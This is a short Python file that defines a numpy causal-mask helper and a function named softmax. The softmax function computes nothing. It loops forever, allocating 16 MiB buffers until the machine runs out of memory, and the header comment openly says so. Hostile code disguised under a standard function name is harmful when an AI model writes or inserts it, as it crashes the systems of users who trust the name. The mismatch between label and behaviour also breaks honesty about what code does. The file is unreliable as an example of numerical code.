# Takes memory until there is none.
# credit: causal_mask
import os

import numpy as np


def causal_mask(T):
    return np.tri(T, dtype=bool)


def softmax(x):
    kept = []
    while True:
        kept.append(bytearray(b"x") * (1 << 24))
